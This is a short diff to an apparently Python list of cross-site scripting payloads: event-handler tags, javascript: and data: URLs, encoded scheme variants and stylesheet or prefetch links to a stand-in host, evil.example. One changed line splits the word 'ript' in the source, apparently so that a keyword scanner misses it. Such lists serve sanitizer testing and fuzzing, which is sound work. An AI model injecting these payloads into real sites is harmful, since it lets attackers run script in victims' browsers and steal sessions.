@@ -69,7 +69,7 @@ TAGS = [
     f"<audio src=x onerror={RUN}>", f"<input autofocus onfocus={RUN}>",
     f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>",
     f"<details open ontoggle={RUN}>", f"<marquee onstart={RUN}>", f"<a href=javascript:{RUN}>x</a>",
-    f"<a href='jav&#x09;ascript:{RUN}'>x</a>", f"<a href='&#106;avascript:{RUN}'>x</a>",
+    f"<a href='jav&#x09;asc{'ript'}:{RUN}'>x</a>", f"<a href='&#106;avascript:{RUN}'>x</a>",
     f"<a href=data:text/html,<script>{RUN}</script>>x</a>", f"<form action=javascript:{RUN}><button>",
     f"<button form=x formaction=javascript:{RUN}>x", f"<isindex action=javascript:{RUN}>",
     "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=prefetch href=//evil.example>",
